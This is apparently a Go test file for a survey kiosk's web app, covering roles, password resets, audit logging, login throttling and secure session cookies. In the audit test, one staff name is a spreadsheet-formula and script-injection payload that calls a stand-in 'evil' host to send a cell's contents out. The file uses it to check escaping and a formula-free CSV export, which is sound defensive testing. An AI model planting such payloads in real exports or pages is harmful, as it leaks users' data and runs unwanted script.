package kiosk_test

import (
	"context"
	"encoding/csv"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/skmkiosk/skm/kiosk"
	"github.com/skmkiosk/skm/survey"
)

var newPasswordRE = regexp.MustCompile(`<p><code>([^<]+)</code></p>`)

// MustCreateUser creates an account through the admin's user page and
// returns the first password the page shows once.
func MustCreateUser(tb testing.TB, k *testKiosk, admin *http.Client, username, role, nip string) string {
	tb.Helper()
	csrf := MustCSRF(tb, admin, k.URL+"/admin/users")
	resp, page := MustPostForm(tb, admin, k.URL+"/admin/users", url.Values{"csrf": {csrf}, "username": {username}, "role": {role}, "nip": {nip}})
	MustStatus(tb, resp, page, http.StatusOK)
	if cc := resp.Header.Get("Cache-Control"); cc != "no-store" {
		tb.Errorf("the page showing a new password has Cache-Control %q, want no-store", cc)
	}
	m := newPasswordRE.FindStringSubmatch(page)
	if m == nil {
		tb.Fatalf("no password on the created-user page:\n%s", clip(page))
	}
	return html.UnescapeString(m[1])
}

// MustLogin logs a new client in and returns it with the location the login redirected to.
func MustLogin(tb testing.TB, k *testKiosk, username, password string) (*http.Client, string) {
	tb.Helper()
	hc := MustNewClient(tb)
	resp, body := tryLogin(tb, k, hc, username, password)
	return hc, MustRedirect(tb, resp, body, "/")
}

func tryLogin(tb testing.TB, k *testKiosk, hc *http.Client, username, password string) (*http.Response, string) {
	tb.Helper()
	csrf := MustCSRF(tb, hc, k.URL+"/login")
	return MustPostForm(tb, hc, k.URL+"/login", url.Values{"csrf": {csrf}, "username": {username}, "password": {password}})
}

// MustAudit returns the audit log's actions, newest first.
func MustAudit(tb testing.TB, k *testKiosk) []survey.AuditEntry {
	tb.Helper()
	entries, err := k.DB.FindAudit(context.Background(), 1000)
	if err != nil {
		tb.Fatal(err)
	}
	return entries
}

func hasAudit(entries []survey.AuditEntry, action, detailPart string) bool {
	for _, e := range entries {
		if e.Action == action && strings.Contains(e.Detail, detailPart) {
			return true
		}
	}
	return false
}

func TestUserManagementAndRoles(t *testing.T) {
	k := MustStartKiosk(t)
	siti := MustAddStaff(t, k, nipSiti, "Siti Aminah", "1")
	admin := MustSetUp(t, k)

	// A counter account needs an active staff member's NIP.
	csrf := MustCSRF(t, admin, k.URL+"/admin/users")
	resp, page := MustPostForm(t, admin, k.URL+"/admin/users", url.Values{"csrf": {csrf}, "username": {"loket9"}, "role": {"counter"}, "nip": {nipBudi}})
	MustStatus(t, resp, page, http.StatusBadRequest)
	if !strings.Contains(page, "akun loket memerlukan NIP petugas yang aktif") {
		t.Error("refused counter account without the reason")
	}
	resp, page = MustPostForm(t, admin, k.URL+"/admin/users", url.Values{"csrf": {csrf}, "username": {"boss"}, "role": {"superuser"}})
	MustStatus(t, resp, page, http.StatusBadRequest)

	pwViewer := MustCreateUser(t, k, admin, "pengamat", "viewer", "")
	pwKepala := MustCreateUser(t, k, admin, "kepala", "kepala", "")
	pwCounter := MustCreateUser(t, k, admin, "loket1", "counter", nipSiti)

	// Each role lands where it works, and sees only what it may.
	viewer, home := MustLogin(t, k, "pengamat", pwViewer)
	if home != "/admin" {
		t.Errorf("viewer lands on %q", home)
	}
	for path, want := range map[string]int{"/admin": 200, "/admin/users": 403, "/admin/audit": 403, "/admin/followups": 403, "/account/password": 200} {
		resp, body := MustGet(t, viewer, k.URL+path)
		MustStatus(t, resp, body, want)
	}
	kepala, _ := MustLogin(t, k, "kepala", pwKepala)
	for path, want := range map[string]int{"/admin/followups": 200, "/admin/users": 403} {
		resp, body := MustGet(t, kepala, k.URL+path)
		MustStatus(t, resp, body, want)
	}
	counter, home := MustLogin(t, k, "loket1", pwCounter)
	if home != "/counter/"+siti.Code {
		t.Errorf("counter lands on %q, want its own counter screen", home)
	}
	for path, want := range map[string]int{"/admin": 403, "/admin/staff": 403, "/counter/" + siti.Code: 200} {
		resp, body := MustGet(t, counter, k.URL+path)
		MustStatus(t, resp, body, want)
	}

	// Deactivating ends the account's sessions at once.
	users, err := k.DB.FindUsers(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	ids := map[string]int64{}
	for _, u := range users {
		ids[u.Username] = u.ID
	}
	csrf = MustCSRF(t, admin, k.URL+"/admin/users")
	resp, body := MustPostForm(t, admin, k.URL+"/admin/users/"+strconv.FormatInt(ids["pengamat"], 10)+"/active", url.Values{"csrf": {csrf}, "active": {"0"}})
	MustRedirect(t, resp, body, "/admin/users")
	resp, body = MustGet(t, viewer, k.URL+"/admin")
	MustRedirect(t, resp, body, "/login")
	resp, body = tryLogin(t, k, MustNewClient(t), "pengamat", pwViewer)
	MustStatus(t, resp, body, http.StatusUnauthorized)

	// An admin cannot deactivate or reset their own account from the list.
	resp, body = MustPostForm(t, admin, k.URL+"/admin/users/"+strconv.FormatInt(ids[adminUser], 10)+"/active", url.Values{"csrf": {csrf}, "active": {"0"}})
	MustStatus(t, resp, body, http.StatusForbidden)

	// A reset password replaces the old one and ends the sessions.
	resp, page = MustPostForm(t, admin, k.URL+"/admin/users/"+strconv.FormatInt(ids["kepala"], 10)+"/reset", url.Values{"csrf": {csrf}})
	MustStatus(t, resp, page, http.StatusOK)
	m := newPasswordRE.FindStringSubmatch(page)
	if m == nil {
		t.Fatal("no new password shown")
	}
	resp, body = MustGet(t, kepala, k.URL+"/admin")
	MustRedirect(t, resp, body, "/login")
	resp, body = tryLogin(t, k, MustNewClient(t), "kepala", pwKepala)
	MustStatus(t, resp, body, http.StatusUnauthorized)
	kepala, _ = MustLogin(t, k, "kepala", html.UnescapeString(m[1]))
	resp, body = MustGet(t, kepala, k.URL+"/admin")
	MustStatus(t, resp, body, http.StatusOK)

	// Every user changes their own password; the current one is checked.
	csrf = MustCSRF(t, counter, k.URL+"/account/password")
	resp, page = MustPostForm(t, counter, k.URL+"/account/password", url.Values{"csrf": {csrf}, "current": {"salah-sekali-123"},
		"password": {"loket-baru-12345"}, "password2": {"loket-baru-12345"}})
	MustStatus(t, resp, page, http.StatusBadRequest)
	resp, body = MustPostForm(t, counter, k.URL+"/account/password", url.Values{"csrf": {csrf}, "current": {pwCounter},
		"password": {"loket-baru-12345"}, "password2": {"loket-baru-12345"}})
	MustRedirect(t, resp, body, "/account/password?saved=1")
	MustLogin(t, k, "loket1", "loket-baru-12345")

	entries := MustAudit(t, k)
	for _, want := range []struct{ action, detail string }{{"user_create", "loket1 role=counter nip=" + nipSiti},
		{"user_active", "pengamat active=false"}, {"user_reset_password", "kepala"}, {"password_change", "loket1"}} {
		if !hasAudit(entries, want.action, want.detail) {
			t.Errorf("audit log lacks %s %q", want.action, want.detail)
		}
	}
	for _, e := range entries {
		if strings.Contains(e.Detail, pwCounter) || strings.Contains(e.Detail, "loket-baru") {
			t.Errorf("audit entry %+v holds a password", e)
		}
	}
}

func TestAuditLogViewableExportableNotEditable(t *testing.T) {
	k := MustStartKiosk(t)
	admin := MustSetUp(t, k)
	// A username cannot carry markup, but a staff name can: it reaches the audit detail.
	csrf := MustCSRF(t, admin, k.URL+"/admin/staff/new")
	resp, body := MustPostMultipart(t, admin, k.URL+"/admin/staff/new", url.Values{"csrf": {csrf}, "nip": {nipSiti},
		"name": {`=HYPERLINK("http://evil/?x="&A1,"klik") <script>alert(1)</script>`}, "type": {"PNS"}}, nil)
	MustRedirect(t, resp, body, "/admin/staff")

	resp, page := MustGet(t, admin, k.URL+"/admin/audit")
	MustStatus(t, resp, page, http.StatusOK)
	if strings.Contains(page, "<script>alert(1)") || !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Error("the audit page does not show the staff name escaped")
	}
	for _, action := range []string{"setup", "staff_create"} {
		if !strings.Contains(page, ">"+action+"<") {
			t.Errorf("the audit page lacks %s", action)
		}
	}
	resp, body = MustGet(t, admin, k.URL+"/admin/audit.csv")
	MustStatus(t, resp, body, http.StatusOK)
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("audit export Content-Type %q", ct)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) < 3 {
		t.Fatalf("audit CSV: %d rows, %v", len(rows), err)
	}
	MustNoFormulaCells(t, "audit.csv", rows)

	// No route changes or deletes entries.
	before := len(MustAudit(t, k))
	for _, path := range []string{"/admin/audit", "/admin/audit/1", "/admin/audit.csv", "/admin/audit/1/delete"} {
		for _, method := range []string{http.MethodPost, http.MethodPut, http.MethodDelete, http.MethodPatch} {
			req, _ := http.NewRequest(method, k.URL+path, strings.NewReader(url.Values{"csrf": {csrf}}.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			resp, body := MustDo(t, admin, req)
			if resp.StatusCode != http.StatusNotFound && resp.StatusCode != http.StatusMethodNotAllowed {
				t.Errorf("%s %s: %d, want 404 or 405: %s", method, path, resp.StatusCode, clip(body))
			}
		}
	}
	if after := len(MustAudit(t, k)); after != before {
		t.Errorf("audit entries %d → %d after write attempts", before, after)
	}
}

// MustNoFormulaCells fails when a CSV cell would run as a spreadsheet formula.
func MustNoFormulaCells(tb testing.TB, what string, rows [][]string) {
	tb.Helper()
	for i, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					tb.Errorf("%s row %d: cell %q starts a formula", what, i+1, cell)
				}
			}
		}
	}
}

var alertRE = regexp.MustCompile(`<div class="alert alert-error" role="alert">([^<]*)</div>`)

// loginAlert is the error a login page shows.
func loginAlert(page string) string {
	if m := alertRE.FindStringSubmatch(page); m != nil {
		return html.UnescapeString(m[1])
	}
	return ""
}

// Forty wrong passwords at once for one account: the throttle records each
// attempt before its password is checked, so only the free five and the
// one that starts the wait are checked; the rest, and then the right
// password, wait a second instead of a hard lock. An unknown account gets
// the same answers, and the audit log holds every checked failure and the
// flood in two lines.
func TestLoginThrottleHoldsUnderConcurrency(t *testing.T) {
	k := MustStartKiosk(t)
	admin := MustSetUp(t, k)
	pw := MustCreateUser(t, k, admin, "pengamat", "viewer", "")

	type result struct {
		status int
		alert  string
	}
	flood := func(username string) map[int][]string {
		clients := make([]*http.Client, 40)
		csrf := make([]string, 40)
		for i := range clients {
			clients[i] = MustNewClient(t)
			csrf[i] = MustCSRF(t, clients[i], k.URL+"/login")
		}
		results := make(chan result, 40)
		var wg sync.WaitGroup
		for i := range clients {
			wg.Go(func() {
				resp, body := MustPostForm(t, clients[i], k.URL+"/login", url.Values{"csrf": {csrf[i]}, "username": {username},
					"password": {"tebakan-" + strconv.Itoa(i)}})
				results <- result{resp.StatusCode, loginAlert(body)}
			})
		}
		wg.Wait()
		close(results)
		got := map[int][]string{}
		for r := range results {
			got[r.status] = append(got[r.status], r.alert)
		}
		return got
	}
	known, unknown := flood("pengamat"), flood("tidak-ada")
	for name, got := range map[string]map[int][]string{"pengamat": known, "tidak-ada": unknown} {
		if len(got[http.StatusUnauthorized]) != 6 || len(got[http.StatusTooManyRequests]) != 34 {
			t.Errorf("%s: 40 parallel wrong passwords: %d checked (401), %d throttled (429); want 6 and 34",
				name, len(got[http.StatusUnauthorized]), len(got[http.StatusTooManyRequests]))
		}
	}
	if a, b := known[http.StatusUnauthorized][0], unknown[http.StatusUnauthorized][0]; a != b || a == "" {
		t.Errorf("wrong password says %q, unknown account %q: want the same", a, b)
	}
	if a, b := known[http.StatusTooManyRequests][0], unknown[http.StatusTooManyRequests][0]; a != b || !strings.Contains(a, "tunggu 1 detik") {
		t.Errorf("throttled: %q and %q, want the same wait of 1 second", a, b)
	}

	// The right password waits too, a second; then it logs in, and the account starts afresh.
	resp, body := tryLogin(t, k, MustNewClient(t), "pengamat", pw)
	MustStatus(t, resp, body, http.StatusTooManyRequests)
	k.Clock.Set(testStart.Add(time.Second))
	MustLogin(t, k, "pengamat", pw)
	resp, body = tryLogin(t, k, MustNewClient(t), "pengamat", "salah-lagi-sekali")
	MustStatus(t, resp, body, http.StatusUnauthorized)

	entries := MustAudit(t, k)
	count := map[string]int{}
	for _, e := range entries {
		if e.Action == "login_failed" || e.Action == "login_throttled" {
			count[e.Action+" "+e.Username+" "+e.Detail]++
		}
	}
	for key, want := range map[string]int{
		"login_failed pengamat ":                                     7,
		"login_failed tidak-ada ":                                    6,
		"login_throttled pengamat 1 attempts refused while waiting":  1,
		"login_throttled pengamat 10 attempts refused while waiting": 1,
		"login_throttled tidak-ada 1 attempts refused while waiting": 1,
	} {
		if count[key] != want {
			t.Errorf("audit %q: %d entries, want %d (all: %v)", key, count[key], want, count)
		}
	}

	// One address: twenty failures across any accounts are free; the next
	// one starts a wait that holds every account from it, the right password too.
	k.Clock.Set(testStart.Add(2 * time.Hour)) // past every key's memory
	for i := range 21 {
		resp, body := tryLogin(t, k, MustNewClient(t), "tidak-ada-"+strconv.Itoa(i), "salah-salah-salah")
		MustStatus(t, resp, body, http.StatusUnauthorized)
	}
	resp, body = tryLogin(t, k, MustNewClient(t), adminUser, adminPassword)
	MustStatus(t, resp, body, http.StatusTooManyRequests)
	k.Clock.Set(testStart.Add(2*time.Hour + time.Second))
	MustLogin(t, k, adminUser, adminPassword)
}

func TestSessionCookieSecureWhenConfigured(t *testing.T) {
	k := MustStartKiosk(t, func(c *kiosk.Config) { c.SecureCookies = true })
	link, err := k.Server.PrepareSetup(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	// The test client speaks plain HTTP, so it would not send Secure cookies
	// back; read the Set-Cookie headers directly.
	resp, page := MustGet(t, MustNewClient(t), link)
	MustStatus(t, resp, page, http.StatusOK)
	csrfCookie := findCookie(resp, "csrf")
	if csrfCookie == nil || !csrfCookie.Secure || !csrfCookie.HttpOnly || csrfCookie.SameSite != http.SameSiteStrictMode {
		t.Fatalf("csrf cookie %+v, want Secure, HttpOnly, SameSite=Strict", csrfCookie)
	}
	form := url.Values{"csrf": {MustInputValue(t, page, "csrf")}, "token": {MustInputValue(t, page, "token")},
		"username": {adminUser}, "password": {adminPassword}, "password2": {adminPassword}}
	req, _ := http.NewRequest(http.MethodPost, k.URL+"/setup", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.AddCookie(&http.Cookie{Name: "csrf", Value: csrfCookie.Value})
	resp, body := MustDo(t, MustNewClient(t), req)
	MustRedirect(t, resp, body, "/admin")
	c := findCookie(resp, "sesi")
	if c == nil || !c.Secure || !c.HttpOnly || c.SameSite != http.SameSiteStrictMode {
		t.Errorf("session cookie %+v, want Secure, HttpOnly, SameSite=Strict", c)
	}
}
